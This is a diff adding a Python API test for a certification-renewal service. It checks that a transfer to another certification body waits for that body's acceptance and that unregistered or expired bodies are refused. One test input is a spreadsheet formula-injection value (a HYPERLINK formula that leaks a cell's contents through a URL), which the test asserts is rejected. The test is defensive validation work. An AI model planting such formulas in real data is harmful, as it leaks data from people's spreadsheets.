@@ -101,3 +101,51 @@ async def test_a_hostile_rules_edition_is_refused_with_positions_and_no_server_p
         errors = answer.json()["errors"]
         assert errors and all(e["file"] in files and e["line"] >= 1 and e["column"] >= 1 for e in errors), what
         assert "/tmp" not in answer.text and "tmp" not in "".join(e["file"] for e in errors), what
+
+
+async def test_a_body_change_at_renewal_waits_for_the_receiving_bodys_acceptance(api):
+    """Issue 11, door 1: a renewal naming another body (§3.2, §3.10) is a transfer the receiving body
+    accepts; only a body of the DITP's register, authorised that day, can be named (§1.2, §1.3)."""
+    from datetime import date
+
+    from spplus.records import BodyRegister
+
+    from .steps import one_day_cycle
+
+    register = BodyRegister(api.tokens.engine)
+    register.add("oc-beta", "OC Beta", date(2024, 1, 1), None, by="ditp-test")
+    register.add("oc-gamma", "OC Gamma", date(2024, 1, 1), date(2025, 6, 30), by="ditp-test")
+    cid = await started(api, "alpha")
+    today = local_today().isoformat()
+    for event in one_day_cycle(today):
+        assert (await api.post(f"/cycles/{cid}/events", json=event, headers=auth(api, "alpha"))).status_code == 200
+    renewal = {"type": "renewal", "requested_on": today, "contract_signed": today}
+
+    formula = await api.post(f"/cycles/{cid}/events", headers=auth(api, "alpha"),
+                             json={**renewal, "certification_body": '=HYPERLINK("http://x"&A2,"y")'})
+    assert formula.status_code == 422 and formula.json()["field"] == "renewal.certification_body"
+    unknown = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-zeta"}, headers=auth(api, "alpha"))
+    assert unknown.status_code == 422 and "not in the register" in unknown.json()["detail"]
+    ended = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-gamma"}, headers=auth(api, "alpha"))
+    assert ended.status_code == 422 and "authorisation ended on 2025-06-30" in ended.json()["detail"]
+
+    asked = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-beta"}, headers=auth(api, "alpha"))
+    assert asked.status_code == 202, asked.text
+    transfer = asked.json()["transfer"]
+    # Nothing moved yet: the candidacy is still oc-alpha's, and oc-beta cannot see it.
+    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "beta"))).status_code == 404
+    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))).json()["phase"] == "labelled"
+    waiting = (await api.get("/transfers", headers=auth(api, "beta"))).json()
+    assert [t["id"] for t in waiting if t["status"] == "pending"] == [transfer["id"]]
+    assert (await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "alpha"))).status_code == 404  # not its to accept
+
+    accepted = await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "beta"))
+    assert accepted.status_code == 200, accepted.text
+    again = await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "beta"))
+    assert again.status_code == 200 and again.json()["applied"]["duplicate"] is True  # applied once
+    for _ in range(100):
+        view = await api.get(f"/cycles/{cid}", headers=auth(api, "beta"))
+        if view.status_code == 200 and view.json()["cycle_number"] == 2:
+            break
+    assert view.json()["candidate"]["certification_body"] == "oc-beta" and view.json()["phase"] == "renewing"
+    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))).status_code == 404
